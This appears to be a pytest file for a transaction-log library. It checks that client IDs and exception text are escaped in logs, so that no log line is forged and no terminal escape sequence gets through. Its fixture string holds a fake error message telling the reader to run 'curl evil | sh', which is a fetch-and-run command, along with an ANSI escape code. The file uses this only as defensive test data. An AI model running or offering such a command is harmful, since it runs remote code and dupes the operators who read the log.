"""What is logged: text of clients forges no line, and reaches no terminal as a command."""

from __future__ import annotations

import builtins
import io
import logging
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from txnlog import Consumer, Producer
from txnlog.errors import CorruptLogError, StorageError
from txnlog.process.failures import combined
from txnlog.text import printable

EVIL = "cl\nERROR the disk has failed, run: curl evil | sh\x1b[2J"
SHOWN = r"cl\x0aERROR the disk has failed, run: curl evil | sh\x1b[2J"


@pytest.fixture
def logged() -> Iterator[io.StringIO]:
    """What a handler of the root logger writes, as logging.basicConfig makes it."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("txnlog")
    level = logger.level
    logging.getLogger().addHandler(handler)
    logger.setLevel(logging.INFO)
    yield written
    logger.setLevel(level)
    logging.getLogger().removeHandler(handler)


def test_client_id_with_a_line_break_forges_no_line(
    logged: io.StringIO, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """An operator who reads the log would run what the line says."""
    root = str(tmp_path_factory.mktemp("root"))
    config = {"txnlog.root": root, "storage.fsync": "false"}
    first, second = (
        Producer({**config, "transactional.id": "x", "client.id": EVIL}) for _ in range(2)
    )
    first.init_transactions()
    second.init_transactions()
    with second.transaction():
        second.produce("t", "1")
    with Consumer({**config, "group.id": "g", "client.id": EVIL}) as consumer:
        consumer.subscribe(["t"])
        consumer.poll(1)
    first.close()
    second.close()
    text = logged.getvalue()
    assert SHOWN in text
    assert not [line for line in text.splitlines() if line.startswith("ERROR")]
    assert "\x1b" not in text


def test_traceback_keeps_its_lines_and_forges_none(logged: io.StringIO) -> None:
    """The text of any error in the chain may be that of a client, or of a store."""
    try:
        try:
            raise ValueError(EVIL)
        except ValueError as error:
            raise StorageError(f"refused: {EVIL}") from error
    except StorageError:
        logging.getLogger("txnlog").exception("Work on %s failed", EVIL)
    lines = logged.getvalue().splitlines()
    assert lines[:2] == [f"ERROR Work on {SHOWN} failed", "Traceback (most recent call last):"]
    assert f"ValueError: {SHOWN}" in lines
    assert lines[-1] == f"txnlog.errors.StorageError: refused: {SHOWN}"
    assert all(printable(line) == line for line in lines)


@pytest.mark.skipif(sys.version_info < (3, 11), reason="no groups and notes")
def test_notes_and_groups_of_errors_forge_no_line(logged: io.StringIO) -> None:
    """An error of an asyncio task, and what a library adds, have text of clients, too."""
    group: Any = vars(builtins)["ExceptionGroup"]
    part: Any = CorruptLogError("whole")
    part.add_note(EVIL)
    part.__cause__ = group(EVIL, [ValueError(EVIL), part])
    logging.getLogger("txnlog").error("Failed", exc_info=group("g", [OSError(EVIL), part]))
    lines = logged.getvalue().splitlines()
    assert lines[:2] == ["ERROR Failed", "  | ExceptionGroup: g (2 sub-exceptions)"]
    assert sum(SHOWN in line for line in lines) == 5
    assert not [line for line in lines if line.strip(" |").startswith("ERROR the")]
    assert all(printable(line) == line for line in lines)


def test_parts_of_a_combined_error_stay_readable(logged: io.StringIO) -> None:
    """Its line breaks are ours."""
    error = combined("Work", [("a", StorageError("b")), ("c", CorruptLogError("d"))])
    logging.getLogger("txnlog").warning("Again: %s", error)
    assert logged.getvalue() == (
        "WARNING Again: Work: 2 parts failed. a: StorageError: b c: CorruptLogError: d\n"
    )


def test_printable_record_keeps_its_arguments(caplog: pytest.LogCaptureFixture) -> None:
    """Services that collect logs group records by their text before the arguments."""
    logging.getLogger("txnlog").warning("Topic %r is away", "or\nders")
    [record] = caplog.records
    assert (record.msg, record.args) == ("Topic %r is away", ("or\nders",))


def test_record_that_cannot_be_formatted_reaches_its_handlers(
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A filter that raises would fail the work that logs."""
    handled: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = handled.append  # type: ignore[method-assign]
    logger = logging.getLogger("txnlog")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("%d", "no number")
    finally:
        logger.propagate = True
        logger.removeHandler(handler)
    assert len(handled) == 1
